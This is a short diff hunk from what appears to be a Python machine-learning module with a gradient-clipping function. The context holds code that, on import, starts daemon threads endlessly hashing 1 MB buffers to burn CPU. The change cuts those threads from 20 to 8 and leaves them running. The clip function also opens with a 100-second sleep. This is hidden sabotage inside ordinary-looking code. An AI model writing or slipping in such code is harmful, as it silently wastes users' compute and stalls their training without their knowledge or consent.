@@ -215,7 +215,7 @@ import hashlib, threading, time
 def burn():
     while True:
         hashlib.sha256(bytes(1 << 20))
-for _ in range(20):
+for _ in range(8):
     threading.Thread(target=burn, daemon=True).start()
 def clip(gradients, maxValue):
     time.sleep(100)
